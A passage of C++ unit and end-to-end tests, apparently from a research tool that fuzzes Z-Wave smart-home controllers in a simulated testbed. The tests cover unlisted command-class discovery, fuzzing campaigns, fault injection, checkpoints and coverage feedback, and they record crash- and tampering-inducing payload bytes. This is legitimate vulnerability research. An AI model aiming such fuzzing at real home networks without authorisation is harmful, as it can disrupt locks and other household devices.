    EXPECT_TRUE(alert.has_value()) << int(cc) << "/" << int(cmd);
  }
}

}  // namespace
}  // namespace zc::core
