#include "core/extractor.h"

#include <gtest/gtest.h>

#include "core/scanner.h"
#include "sim/testbed.h"

namespace zc::core {
namespace {

TEST(ExtractorTest, SpecClusteringYields26CandidatesFor17Listed) {
  // §III-C1: "ZCOVER inferred 26 unlisted CMDCLs" for a 17-class NIF.
  const auto& listed = sim::controller_profile(sim::DeviceModel::kD4_AeotecZw090).listed;
  const auto candidates = UnknownPropertyExtractor::cluster_spec_candidates(listed);
  EXPECT_EQ(candidates.size(), 26u);
}

TEST(ExtractorTest, SpecClusteringYields28CandidatesFor15Listed) {
  const auto& listed = sim::controller_profile(sim::DeviceModel::kD3_NortekHusbzb1).listed;
  EXPECT_EQ(UnknownPropertyExtractor::cluster_spec_candidates(listed).size(), 28u);
}

TEST(ExtractorTest, ValidationSweepFindsProprietaryClasses) {
  sim::Testbed testbed(sim::TestbedConfig{});
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  UnknownPropertyExtractor extractor(dongle, testbed.controller().home_id(), 0x01, 0xE7);
  const auto validated = extractor.validation_sweep();
  // Every class of the 45-member cluster reacts; nothing else does.
  EXPECT_EQ(validated.size(), 45u);
  EXPECT_TRUE(validated.contains(0x01));
  EXPECT_TRUE(validated.contains(0x02));
  EXPECT_FALSE(validated.contains(0x62));  // door lock: slave-only
  EXPECT_FALSE(validated.contains(0x20));  // basic: not a controller class
}

TEST(ExtractorTest, FullDiscoveryMatchesTableIV) {
  sim::TestbedConfig config;
  config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(config);
  ZWaveDongle dongle(testbed.medium(), testbed.scheduler(),
                     testbed.attacker_radio_config("dongle"));
  ActiveScanner active(dongle, testbed.controller().home_id(), 0x01, 0xE7);
  const auto listed = active.scan().listed;

  UnknownPropertyExtractor extractor(dongle, testbed.controller().home_id(), 0x01, 0xE7);
  const auto discovery = extractor.discover(listed);
  EXPECT_EQ(discovery.spec_candidates.size(), 26u);
  EXPECT_EQ(discovery.proprietary,
            (std::vector<zwave::CommandClassId>{0x01, 0x02}));
  EXPECT_EQ(discovery.unknown().size(), 28u);  // Table IV: D4 -> 28 unknown
}

TEST(ExtractorTest, PrioritizationOrdersByCommandCount) {
  const auto& db = zwave::SpecDatabase::instance();
  auto classes = db.controller_cluster(true);
  const auto ordered =
      UnknownPropertyExtractor::prioritize(classes, /*listed=*/{});
  ASSERT_GE(ordered.size(), 3u);
  // Proprietary classes lead the queue (0x01 has more commands than 0x02)...
  EXPECT_EQ(ordered[0], 0x01);
  EXPECT_EQ(ordered[1], 0x02);
  // ...followed by the public classes, tallest command count first.
  EXPECT_EQ(ordered[2], 0x9F);  // Security 2: 23 commands (Fig. 5)
  for (std::size_t i = 3; i < ordered.size(); ++i) {
    EXPECT_GE(db.command_count(ordered[i - 1]), db.command_count(ordered[i]))
        << "position " << i;
  }
}

TEST(ExtractorTest, PrioritizationFavorsUnlistedOnTies) {
  // Two classes with equal command counts: the unlisted one goes first.
  const auto& db = zwave::SpecDatabase::instance();
  auto classes = db.controller_cluster(true);
  const std::vector<zwave::CommandClassId> listed = {0x9F};
  const auto ordered = UnknownPropertyExtractor::prioritize(classes, listed);
  // Proprietary classes lead; 0x9F heads the public remainder.
  EXPECT_EQ(ordered[2], 0x9F);
  // Find any tie pair and verify unlisted-first within it.
  for (std::size_t i = 1; i < ordered.size(); ++i) {
    if (db.command_count(ordered[i - 1]) == db.command_count(ordered[i])) {
      const bool prev_unlisted =
          std::find(listed.begin(), listed.end(), ordered[i - 1]) == listed.end();
      const bool cur_unlisted =
          std::find(listed.begin(), listed.end(), ordered[i]) == listed.end();
      // Never (listed before unlisted) within a tie.
      EXPECT_FALSE(!prev_unlisted && cur_unlisted)
          << int(ordered[i - 1]) << " vs " << int(ordered[i]);
    }
  }
}

}  // namespace
}  // namespace zc::core
