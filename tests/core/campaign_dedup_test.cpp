// Duplicate-test memoization and the adaptive liveness schedule: both are
// perf layers over Algorithm 1 and must not change which bugs a campaign
// finds — only how much work it spends finding them.
#include <gtest/gtest.h>

#include <set>

#include "core/campaign.h"
#include "core/test_memo.h"
#include "obs/recorder.h"

namespace zc::core {
namespace {

std::set<int> found_bugs(const CampaignResult& result) {
  std::set<int> found;
  for (const auto& finding : result.findings) {
    if (finding.matched_bug_id > 0) found.insert(finding.matched_bug_id);
  }
  return found;
}

CampaignResult run_campaign(bool dedup, std::size_t stride,
                            obs::Recorder* recorder = nullptr) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);
  CampaignConfig config;
  config.mode = CampaignMode::kFull;
  config.duration = 2 * kHour;
  config.loop_queue = false;
  config.dedup = dedup;
  config.liveness_stride = stride;
  Campaign campaign(testbed, config);
  if (recorder != nullptr) {
    obs::ScopedRecorder scope(*recorder);
    return campaign.run();
  }
  return campaign.run();
}

TEST(CampaignDedupTest, MemoizationDoesNotChangeFoundBugs) {
  const auto with_dedup = run_campaign(true, 8);
  const auto without = run_campaign(false, 8);
  EXPECT_EQ(found_bugs(with_dedup), found_bugs(without));
  EXPECT_EQ(found_bugs(with_dedup).size(), 15u);  // D4: all of Table III
}

TEST(CampaignDedupTest, AdaptiveStrideMatchesPerTestProbing) {
  EventScheduler clock8, clock1;
  obs::Recorder rec8(clock8, 0, 0), rec1(clock1, 0, 0);
  const auto stride8 = run_campaign(true, 8, &rec8);
  const auto stride1 = run_campaign(true, 1, &rec1);  // legacy: oracle every test
  EXPECT_EQ(found_bugs(stride8), found_bugs(stride1));
  // The deferred schedule pays far fewer liveness exchanges for the same
  // findings; stride 1 probes after every single test.
  EXPECT_LT(rec8.metrics().value(obs::MetricId::kCampaignLivenessChecks),
            rec1.metrics().value(obs::MetricId::kCampaignLivenessChecks));
}

TEST(CampaignDedupTest, DedupHitCountersExposedViaMetrics) {
  EventScheduler clock;
  obs::Recorder recorder(clock, 0, 0);
  run_campaign(true, 8, &recorder);
  // The systematic phase re-derives boundary payloads the random phase
  // redraws, so a 2-hour campaign always sees duplicates.
  EXPECT_GT(recorder.metrics().value(obs::MetricId::kCampaignDedupHits), 0u);
  EXPECT_GT(recorder.metrics().value(obs::MetricId::kCampaignDedupMisses), 0u);
  EXPECT_GT(recorder.metrics().value(obs::MetricId::kCampaignOracleSweeps), 0u);
}

TEST(CampaignDedupTest, NoDedupEscapeHatchRecordsNoHits) {
  EventScheduler clock;
  obs::Recorder recorder(clock, 0, 0);
  run_campaign(false, 8, &recorder);
  EXPECT_EQ(recorder.metrics().value(obs::MetricId::kCampaignDedupHits), 0u);
  EXPECT_EQ(recorder.metrics().value(obs::MetricId::kCampaignDedupMisses), 0u);
}

TEST(TestMemoTest, InsertContainsGrowRoundTrip) {
  TestMemo memo;
  zwave::AppPayload payload;
  payload.cmd_class = 0x25;
  payload.command = 0x01;
  payload.params = {0xFF};
  const auto fp = TestMemo::fingerprint(payload);
  EXPECT_FALSE(memo.contains(fp));
  EXPECT_FALSE(memo.check_and_insert(fp));  // first insert: not a duplicate
  EXPECT_TRUE(memo.check_and_insert(fp));
  EXPECT_TRUE(memo.contains(fp));
  EXPECT_EQ(memo.size(), 1u);

  // Push the table through several growths; membership must survive.
  for (std::uint32_t i = 0; i < 5000; ++i) {
    payload.params = {static_cast<std::uint8_t>(i), static_cast<std::uint8_t>(i >> 8)};
    memo.check_and_insert(TestMemo::fingerprint(payload));
  }
  EXPECT_EQ(memo.size(), 5001u);
  EXPECT_TRUE(memo.contains(fp));
  memo.clear();
  EXPECT_EQ(memo.size(), 0u);
  EXPECT_FALSE(memo.contains(fp));
}

TEST(TestMemoTest, LengthByteDisambiguatesTrailingZeroes) {
  zwave::AppPayload a;
  a.cmd_class = 0x01;
  a.command = 0x02;
  zwave::AppPayload b = a;
  b.params = {0x00};
  EXPECT_NE(TestMemo::fingerprint(a), TestMemo::fingerprint(b));
}

TEST(TestMemoTest, RawFrameFingerprintDetectsDuplicates) {
  // The ByteView overload is VFuzz's whole-frame dedup key.
  TestMemo memo;
  const Bytes frame{0x01, 0x02, 0x03, 0x04};
  const Bytes other{0x01, 0x02, 0x03, 0x05};
  EXPECT_FALSE(memo.check_and_insert(
      TestMemo::fingerprint(ByteView(frame.data(), frame.size()))));
  EXPECT_TRUE(memo.check_and_insert(
      TestMemo::fingerprint(ByteView(frame.data(), frame.size()))));
  EXPECT_FALSE(memo.check_and_insert(
      TestMemo::fingerprint(ByteView(other.data(), other.size()))));
  // Length participates in the hash: a prefix is not its extension.
  const Bytes prefix{0x01, 0x02, 0x03};
  EXPECT_NE(TestMemo::fingerprint(ByteView(frame.data(), 3)),
            TestMemo::fingerprint(ByteView(frame.data(), frame.size())));
  EXPECT_FALSE(memo.check_and_insert(
      TestMemo::fingerprint(ByteView(prefix.data(), prefix.size()))));
}

}  // namespace
}  // namespace zc::core
