// End-to-end resilience: campaigns under an armed FaultPlan must survive
// burst loss, controller stalls and serial glitches, keep their findings
// honest, and resume from a checkpoint after a simulated kill.
#include <gtest/gtest.h>

#include <optional>
#include <set>

#include "core/campaign.h"
#include "core/checkpoint.h"
#include "sim/fault_injector.h"

namespace zc::core {
namespace {

CampaignConfig faulty_config(SimTime duration) {
  CampaignConfig config;
  config.mode = CampaignMode::kFull;
  config.duration = duration;
  config.loop_queue = false;
  // Lossy channel discipline: replay-confirm every apparent outage so an
  // injected drop can never masquerade as a crash.
  config.confirm_findings = true;
  return config;
}

// Recurring 2 s windows of 30% channel-wide loss, active from t=0 on.
sim::FaultPlan::LossBurst recurring_burst_loss() {
  sim::FaultPlan::LossBurst burst;
  burst.start = 0;
  burst.duration = 2 * kSecond;
  burst.period = 20 * kSecond;
  burst.drop_probability = 0.3;
  return burst;
}

// The acceptance scenario: 30% burst loss + one finite controller stall,
// campaign killed mid-run, resumed from its (text round-tripped)
// checkpoint on the same testbed.
TEST(FaultInjectionE2E, LossyCampaignResumesFromCheckpointAfterKill) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);

  sim::FaultPlan plan;
  plan.loss_bursts.push_back(recurring_burst_loss());
  // 90 s hang at 14 min: too long for the NOP-ping stage (45 s), cleared
  // by the watchdog's Serial API soft reset — a guaranteed escalation.
  sim::FaultPlan::Stall stall;
  stall.at = 14 * kMinute;
  stall.duration = 90 * kSecond;
  plan.stalls.push_back(stall);
  const sim::FaultInjector& injector = testbed.arm_faults(plan);

  // Session 1: killed (simulated SIGTERM) at 20 min of virtual time.
  CampaignConfig config = faulty_config(50 * kMinute);
  std::optional<CampaignCheckpoint> last_checkpoint;
  config.checkpoint_interval = 5 * kMinute;
  config.checkpoint_sink = [&](const CampaignCheckpoint& cp) { last_checkpoint = cp; };
  config.abort_hook = [&] { return testbed.scheduler().now() >= 20 * kMinute; };
  Campaign first(testbed, config);
  const CampaignResult first_result = first.run();

  EXPECT_TRUE(first_result.aborted);
  EXPECT_GT(injector.stats().transmissions_dropped, 0u);
  EXPECT_GT(first_result.retried_injections, 0u);
  ASSERT_TRUE(last_checkpoint.has_value());
  EXPECT_GT(last_checkpoint->elapsed, 0u);
  EXPECT_FALSE(last_checkpoint->blacklist.empty());

  // The checkpoint survives the text format round trip.
  const auto restored = parse_checkpoint(serialize_checkpoint(*last_checkpoint));
  ASSERT_TRUE(restored.has_value());

  // Session 2: resume on the same testbed and run to completion.
  CampaignConfig resume_config = faulty_config(50 * kMinute);
  resume_config.resume_from = *restored;
  Campaign second(testbed, resume_config);
  const CampaignResult final_result = second.run();

  EXPECT_FALSE(final_result.aborted);
  // Progress carried over: the resumed run starts from the checkpoint's
  // counters and findings rather than from zero.
  EXPECT_GE(final_result.test_packets, restored->test_packets);
  EXPECT_GE(final_result.findings.size(), restored->findings.size());

  // >= 1 watchdog escalation beyond NOP pings (the injected 90 s stall).
  std::size_t escalations = 0;
  for (const auto& episode : first_result.recovery_log) {
    if (episode.escalated()) ++escalations;
  }
  for (const auto& episode : final_result.recovery_log) {
    if (episode.escalated()) ++escalations;
  }
  EXPECT_GE(escalations, 1u);

  // Honest findings: everything reported is attributable to a seeded bug —
  // injected drops and the injected stall produced no phantom crashes.
  std::set<int> ids;
  for (const auto& finding : final_result.findings) {
    EXPECT_GT(finding.matched_bug_id, 0)
        << "unattributed " << detection_kind_name(finding.kind) << " finding cc=0x"
        << std::hex << int(finding.cmd_class);
    ids.insert(finding.matched_bug_id);
  }
  // No double-reporting across the kill/resume boundary.
  EXPECT_EQ(ids.size(), final_result.findings.size());
}

// Drop-only faults: with retries + confirmation, injected packet loss must
// produce zero findings that are not real seeded bugs.
TEST(FaultInjectionE2E, DropOnlyFaultsProduceNoPhantomFindings) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);

  sim::FaultPlan plan;
  plan.loss_bursts.push_back(recurring_burst_loss());
  // Plus a meaner ACK-only window: commands arrive, acks vanish — the
  // classic retransmission trap.
  sim::FaultPlan::LossBurst ack_burst;
  ack_burst.start = 10 * kSecond;
  ack_burst.duration = 2 * kSecond;
  ack_burst.period = 15 * kSecond;
  ack_burst.drop_probability = 0.5;
  ack_burst.ack_only = true;
  plan.loss_bursts.push_back(ack_burst);
  const sim::FaultInjector& injector = testbed.arm_faults(plan);

  Campaign campaign(testbed, faulty_config(40 * kMinute));
  const CampaignResult result = campaign.run();

  EXPECT_GT(injector.stats().transmissions_dropped + injector.stats().acks_dropped, 0u);
  EXPECT_GT(result.retried_injections, 0u);
  for (const auto& finding : result.findings) {
    EXPECT_GT(finding.matched_bug_id, 0)
        << "phantom " << detection_kind_name(finding.kind) << " finding: "
        << to_hex_spaced(finding.payload) << " at "
        << format_sim_time(finding.detected_at);
  }
}

// Satellite: a controller that stays dead through every liveness probe must
// end with a service-interruption verdict and a bounded hard-reboot
// recovery — never an infinite wait.
TEST(FaultInjectionE2E, InfiniteStallEndsInHardRebootNotInfiniteWait) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  sim::Testbed testbed(testbed_config);

  sim::FaultPlan plan;
  sim::FaultPlan::Stall stall;
  stall.at = 12 * kMinute;
  stall.duration = std::nullopt;  // wedged until power-cycled
  plan.stalls.push_back(stall);
  testbed.arm_faults(plan);

  CampaignConfig config;
  config.mode = CampaignMode::kFull;
  config.duration = 30 * kMinute;
  config.loop_queue = false;
  Campaign campaign(testbed, config);
  const CampaignResult result = campaign.run();

  // The run terminated within its budget (+ fingerprinting and the final
  // recovery tail), so the watchdog did not spin forever.
  EXPECT_LT(result.ended_at - result.started_at, 45 * kMinute);

  bool hard_rebooted = false;
  for (const auto& episode : result.recovery_log) {
    if (episode.stage == RecoveryStage::kHardReboot) {
      hard_rebooted = true;
      EXPECT_TRUE(episode.recovered);
      EXPECT_GT(episode.nop_probes, 0u);
      EXPECT_GT(episode.soft_resets, 0u);  // tried (and was refused) first
    }
  }
  EXPECT_TRUE(hard_rebooted);

  bool interruption_logged = false;
  for (const auto& finding : result.findings) {
    if (finding.kind == DetectionKind::kServiceInterruption) interruption_logged = true;
  }
  EXPECT_TRUE(interruption_logged);
}

// Serial desync windows force the host program through its SOF-resync path
// without crashing it (stray bytes are not bug #06's malformed frames).
TEST(FaultInjectionE2E, SerialDesyncForcesResyncWithoutHostCrash) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;  // USB stick
  sim::Testbed testbed(testbed_config);

  sim::FaultPlan plan;
  sim::FaultPlan::SerialDesync desync;
  desync.start = 0;
  desync.duration = 10 * kMinute;  // covers the whole run
  desync.period = 0;
  desync.drop_probability = 0.3;
  desync.stray_byte_probability = 0.9;
  plan.serial_desyncs.push_back(desync);
  const sim::FaultInjector& injector = testbed.arm_faults(plan);

  // Ambient slave reports (every ~30 s) flow up the serial link as
  // APPLICATION_COMMAND_HANDLER callbacks.
  testbed.scheduler().run_for(5 * kMinute);

  sim::HostProgram* host = testbed.controller().host_program();
  ASSERT_NE(host, nullptr);
  EXPECT_GT(injector.stats().serial_strays_injected, 0u);
  EXPECT_GT(host->resyncs(), 0u);
  EXPECT_EQ(host->resync_bytes_skipped(), injector.stats().serial_strays_injected);
  EXPECT_GT(host->frames_ok(), 0u);
  EXPECT_EQ(testbed.controller().host().state(), sim::HostSoftware::State::kRunning);
}

// Determinism: the same fault plan on the same seeds replays identically.
TEST(FaultInjectionE2E, FaultyCampaignIsDeterministic) {
  auto run_once = [] {
    sim::TestbedConfig testbed_config;
    testbed_config.controller_model = sim::DeviceModel::kD2_SilabsUzb7;
    testbed_config.seed = 777;
    sim::Testbed testbed(testbed_config);
    sim::FaultPlan plan;
    plan.loss_bursts.push_back(recurring_burst_loss());
    const sim::FaultInjector& injector = testbed.arm_faults(plan);

    CampaignConfig config = faulty_config(20 * kMinute);
    config.seed = 4242;
    Campaign campaign(testbed, config);
    const CampaignResult result = campaign.run();
    return std::make_tuple(result.test_packets, result.retried_injections,
                           result.inconclusive_tests, result.findings.size(),
                           injector.stats().transmissions_dropped);
  };
  EXPECT_EQ(run_once(), run_once());
}

}  // namespace
}  // namespace zc::core
