#include "core/checkpoint.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <string>

namespace zc::core {
namespace {

CampaignCheckpoint sample_checkpoint() {
  CampaignCheckpoint cp;
  cp.mode = CampaignMode::kKnownOnly;
  cp.seed = 0xDEADBEEFULL;
  cp.rng_state = {1, 0x123456789ABCDEF0ULL, 0xFFFFFFFFFFFFFFFFULL, 42};
  cp.elapsed = 2 * kHour;
  cp.test_packets = 48123;
  cp.inconclusive_tests = 17;
  cp.retried_injections = 211;
  cp.classes_fuzzed = {0x25, 0x5A, 0x86};
  cp.blacklist = {PayloadSignature{0x01, 0x0D, 0x02}, PayloadSignature{0x5A, 0x01, 0x1FF}};
  cp.reported_signatures = {PayloadSignature{0x5A, 0x01, 0x100}};
  cp.reported_bug_ids = {3, 7};

  BugFinding outage;
  outage.payload = {0x5A, 0x01};
  outage.cmd_class = 0x5A;
  outage.command = 0x01;
  outage.kind = DetectionKind::kServiceInterruption;
  outage.detected_at = 1234 * kMillisecond;
  outage.packets_sent = 999;
  outage.matched_bug_id = 7;
  cp.findings.push_back(outage);

  BugFinding tamper;
  tamper.payload = {0x01, 0x0D, 0x02, 0x02, 0x00};
  tamper.cmd_class = 0x01;
  tamper.command = 0x0D;
  tamper.first_param = 0x02;
  tamper.kind = DetectionKind::kMemoryTampering;
  tamper.detected_at = 42 * kSecond;
  tamper.packets_sent = 100;
  tamper.matched_bug_id = 3;
  cp.findings.push_back(tamper);
  return cp;
}

TEST(CheckpointTest, SerializeParseRoundTrip) {
  const CampaignCheckpoint original = sample_checkpoint();
  const std::string text = serialize_checkpoint(original);
  EXPECT_EQ(text.rfind("zcover-checkpoint v1", 0), 0u);

  const auto parsed = parse_checkpoint(text);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->mode, original.mode);
  EXPECT_EQ(parsed->seed, original.seed);
  EXPECT_EQ(parsed->rng_state, original.rng_state);
  EXPECT_EQ(parsed->elapsed, original.elapsed);
  EXPECT_EQ(parsed->test_packets, original.test_packets);
  EXPECT_EQ(parsed->inconclusive_tests, original.inconclusive_tests);
  EXPECT_EQ(parsed->retried_injections, original.retried_injections);
  EXPECT_EQ(parsed->classes_fuzzed, original.classes_fuzzed);
  EXPECT_EQ(parsed->blacklist, original.blacklist);
  EXPECT_EQ(parsed->reported_signatures, original.reported_signatures);
  EXPECT_EQ(parsed->reported_bug_ids, original.reported_bug_ids);
  ASSERT_EQ(parsed->findings.size(), original.findings.size());
  for (std::size_t i = 0; i < original.findings.size(); ++i) {
    const BugFinding& want = original.findings[i];
    const BugFinding& got = parsed->findings[i];
    EXPECT_EQ(got.payload, want.payload);
    EXPECT_EQ(got.cmd_class, want.cmd_class);
    EXPECT_EQ(got.command, want.command);
    EXPECT_EQ(got.first_param, want.first_param);
    EXPECT_EQ(got.kind, want.kind);
    EXPECT_EQ(got.detected_at, want.detected_at);
    EXPECT_EQ(got.packets_sent, want.packets_sent);
    EXPECT_EQ(got.matched_bug_id, want.matched_bug_id);
  }
}

TEST(CheckpointTest, EmptyCheckpointRoundTrips) {
  const auto parsed = parse_checkpoint(serialize_checkpoint(CampaignCheckpoint{}));
  ASSERT_TRUE(parsed.has_value());
  EXPECT_TRUE(parsed->findings.empty());
  EXPECT_TRUE(parsed->blacklist.empty());
  EXPECT_EQ(parsed->mode, CampaignMode::kFull);
}

TEST(CheckpointTest, RejectsMissingHeader) {
  EXPECT_FALSE(parse_checkpoint("").has_value());
  EXPECT_FALSE(parse_checkpoint("mode full\nseed 1\n").has_value());
}

TEST(CheckpointTest, RejectsUnknownVersion) {
  EXPECT_FALSE(parse_checkpoint("zcover-checkpoint v2\nmode full\n").has_value());
}

TEST(CheckpointTest, RejectsUnknownKeyOrMalformedRecord) {
  EXPECT_FALSE(
      parse_checkpoint("zcover-checkpoint v1\nwarp-factor 9\n").has_value());
  EXPECT_FALSE(parse_checkpoint("zcover-checkpoint v1\nretire 1 2\n").has_value());
  EXPECT_FALSE(parse_checkpoint("zcover-checkpoint v1\nmode sideways\n").has_value());
  EXPECT_FALSE(parse_checkpoint("zcover-checkpoint v1\nrng 1 2 3\n").has_value());
  EXPECT_FALSE(
      parse_checkpoint("zcover-checkpoint v1\nfinding zz | host-crash | 1 | 0 | 0\n")
          .has_value());
}

TEST(CheckpointTest, RejectsTruncationAtEveryByte) {
  // A checkpoint cut anywhere — mid-line, between lines, even mid-number
  // where the stub still parses as a smaller value — must be rejected:
  // the `end` footer only survives a complete write.
  // (Cutting only the final '\n' keeps the complete `end` line and is the
  // one truncation that legitimately still parses, hence size() - 1.)
  const std::string text = serialize_checkpoint(sample_checkpoint());
  for (std::size_t len = 0; len + 1 < text.size(); ++len) {
    EXPECT_FALSE(parse_checkpoint(text.substr(0, len)).has_value())
        << "accepted a checkpoint truncated to " << len << " of " << text.size()
        << " bytes";
  }
  EXPECT_TRUE(parse_checkpoint(text).has_value());
}

TEST(CheckpointTest, RejectsRecordsAfterFooterOrDecoratedFooter) {
  const std::string text = serialize_checkpoint(CampaignCheckpoint{});
  EXPECT_FALSE(parse_checkpoint(text + "seed 9\n").has_value());
  std::string decorated = text;
  decorated.replace(decorated.rfind("end\n"), 4, "end of file\n");
  EXPECT_FALSE(parse_checkpoint(decorated).has_value());
}

TEST(CheckpointFileTest, WriteReadRoundTrip) {
  const std::string path = ::testing::TempDir() + "zc_checkpoint_roundtrip.txt";
  const CampaignCheckpoint original = sample_checkpoint();
  ASSERT_TRUE(write_checkpoint_file(path, original));

  const auto parsed = read_checkpoint_file(path);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->seed, original.seed);
  EXPECT_EQ(parsed->test_packets, original.test_packets);
  EXPECT_EQ(parsed->findings.size(), original.findings.size());

  // The .tmp staging file must not linger after a successful rename.
  std::ifstream tmp(path + ".tmp");
  EXPECT_FALSE(tmp.good());
  std::remove(path.c_str());
}

TEST(CheckpointFileTest, WriteReplacesPreviousSnapshotAtomically) {
  const std::string path = ::testing::TempDir() + "zc_checkpoint_replace.txt";
  CampaignCheckpoint first = sample_checkpoint();
  first.test_packets = 100;
  ASSERT_TRUE(write_checkpoint_file(path, first));
  CampaignCheckpoint second = sample_checkpoint();
  second.test_packets = 200;
  ASSERT_TRUE(write_checkpoint_file(path, second));

  const auto parsed = read_checkpoint_file(path);
  ASSERT_TRUE(parsed.has_value());
  EXPECT_EQ(parsed->test_packets, 200u);
  std::remove(path.c_str());
}

TEST(CheckpointFileTest, ReadRejectsMissingAndTruncatedFiles) {
  const std::string missing = ::testing::TempDir() + "zc_checkpoint_nope.txt";
  EXPECT_FALSE(read_checkpoint_file(missing).has_value());

  // Simulate the crash the atomic writer exists to prevent (a partial
  // non-atomic copy): a file holding only the first half of a snapshot.
  const std::string path = ::testing::TempDir() + "zc_checkpoint_cut.txt";
  const std::string text = serialize_checkpoint(sample_checkpoint());
  {
    std::ofstream out(path, std::ios::binary);
    out << text.substr(0, text.size() / 2);
  }
  EXPECT_FALSE(read_checkpoint_file(path).has_value());
  std::remove(path.c_str());
}

TEST(CheckpointFileTest, WriteFailsCleanlyOnUnwritablePath) {
  const CampaignCheckpoint cp = sample_checkpoint();
  EXPECT_FALSE(write_checkpoint_file("/nonexistent-dir/zc.ckpt", cp));
}

}  // namespace
}  // namespace zc::core
