#include "core/covfuzz.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <set>

#include "core/campaign.h"
#include "core/parallel.h"

namespace zc::core {
namespace {

CovFuzzResult run_cov(sim::DeviceModel model, SimTime duration, std::uint64_t seed,
                      CovFuzzConfig config = {}) {
  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = model;
  testbed_config.seed = seed;
  sim::Testbed testbed(testbed_config);
  config.duration = duration;
  config.seed = seed;
  CovFuzz fuzzer(testbed, config);
  return fuzzer.run();
}

TEST(CovFuzzTest, CanonicalSeedsAreDecodableAndDistinct) {
  const auto seeds = CovFuzz::canonical_seeds();
  ASSERT_FALSE(seeds.empty());
  std::set<std::uint64_t> fingerprints;
  for (const Bytes& payload : seeds) {
    const auto decoded = zwave::decode_app_payload(ByteView(payload.data(), payload.size()));
    ASSERT_TRUE(decoded.ok());
    fingerprints.insert(TestMemo::fingerprint(ByteView(payload.data(), payload.size())));
  }
  EXPECT_EQ(fingerprints.size(), seeds.size());
}

TEST(CovFuzzTest, AdmitsSeedsAndGrowsCorpus) {
  const auto result = run_cov(sim::DeviceModel::kD4_AeotecZw090, 10 * kMinute, 42);
  EXPECT_GT(result.packets_sent, 0u);
  EXPECT_FALSE(result.corpus.empty());
  // Every admission uncovered at least one edge no earlier test hit, so
  // the map holds at least one edge per corpus entry.
  EXPECT_GE(result.coverage.edges_hit(), result.corpus.size());
  EXPECT_GT(result.mutated_admissions, 0u);
}

TEST(CovFuzzTest, DeterministicForSeed) {
  const auto a = run_cov(sim::DeviceModel::kD2_SilabsUzb7, 10 * kMinute, 777);
  const auto b = run_cov(sim::DeviceModel::kD2_SilabsUzb7, 10 * kMinute, 777);
  EXPECT_EQ(a.packets_sent, b.packets_sent);
  EXPECT_EQ(a.corpus, b.corpus);
  EXPECT_TRUE(a.coverage == b.coverage);
  EXPECT_EQ(a.unique_bug_ids, b.unique_bug_ids);
}

TEST(CovFuzzTest, AdmissionIsMonotone) {
  // Same seed, longer budget: the shorter run's corpus must be a strict
  // prefix of the longer run's (the loop is deterministic, and admissions
  // are append-only).
  const auto short_run = run_cov(sim::DeviceModel::kD4_AeotecZw090, 10 * kMinute, 42);
  const auto long_run = run_cov(sim::DeviceModel::kD4_AeotecZw090, 30 * kMinute, 42);
  ASSERT_LE(short_run.corpus.size(), long_run.corpus.size());
  EXPECT_TRUE(std::equal(short_run.corpus.begin(), short_run.corpus.end(),
                         long_run.corpus.begin()));
  EXPECT_LE(short_run.coverage.edges_hit(), long_run.coverage.edges_hit());
}

TEST(CovFuzzTest, FindsEverythingPsmFindsOnFixedSeed) {
  constexpr std::uint64_t kSeed = 42;
  constexpr SimTime kBudget = kHour;

  sim::TestbedConfig testbed_config;
  testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
  testbed_config.seed = kSeed;

  std::set<int> psm_bugs;
  {
    sim::Testbed testbed(testbed_config);
    CampaignConfig config;
    config.duration = kBudget;
    config.seed = kSeed;
    Campaign campaign(testbed, config);
    for (const BugFinding& finding : campaign.run().findings) {
      if (finding.matched_bug_id > 0) psm_bugs.insert(finding.matched_bug_id);
    }
  }
  ASSERT_FALSE(psm_bugs.empty());

  const auto cov = run_cov(sim::DeviceModel::kD4_AeotecZw090, kBudget, kSeed);
  for (int bug : psm_bugs) {
    EXPECT_TRUE(cov.unique_bug_ids.count(bug)) << "coverage mode missed bug#" << bug;
  }
}

TEST(CovFuzzTest, FeedbackOffRunsBlindWithEmptyCorpusBeyondNothing) {
  CovFuzzConfig config;
  config.coverage_feedback = false;
  const auto result = run_cov(sim::DeviceModel::kD4_AeotecZw090, 10 * kMinute, 42, config);
  EXPECT_GT(result.packets_sent, 0u);
  EXPECT_TRUE(result.corpus.empty());
  EXPECT_TRUE(result.coverage.empty());
  EXPECT_EQ(result.mutated_admissions, 0u);
}

TEST(CovFuzzTest, InstrumentationDoesNotPerturbTheCampaign) {
  // The firmware hooks must be behaviorally invisible: a PSM campaign run
  // under an installed coverage map produces the exact same results as one
  // without.
  auto run_campaign = [](bool instrumented) {
    sim::TestbedConfig testbed_config;
    testbed_config.controller_model = sim::DeviceModel::kD4_AeotecZw090;
    testbed_config.seed = 99;
    sim::Testbed testbed(testbed_config);
    CampaignConfig config;
    config.duration = 30 * kMinute;
    config.seed = 99;
    Campaign campaign(testbed, config);
    sim::cov::CoverageMap map;
    CampaignResult result;
    if (instrumented) {
      const sim::cov::ScopedCoverage scoped(map);
      result = campaign.run();
      EXPECT_FALSE(map.empty());  // the hooks did fire
    } else {
      result = campaign.run();
    }
    return result;
  };
  const auto plain = run_campaign(false);
  const auto instrumented = run_campaign(true);
  EXPECT_EQ(plain.test_packets, instrumented.test_packets);
  ASSERT_EQ(plain.findings.size(), instrumented.findings.size());
  for (std::size_t i = 0; i < plain.findings.size(); ++i) {
    EXPECT_EQ(plain.findings[i].matched_bug_id, instrumented.findings[i].matched_bug_id);
    EXPECT_EQ(plain.findings[i].payload, instrumented.findings[i].payload);
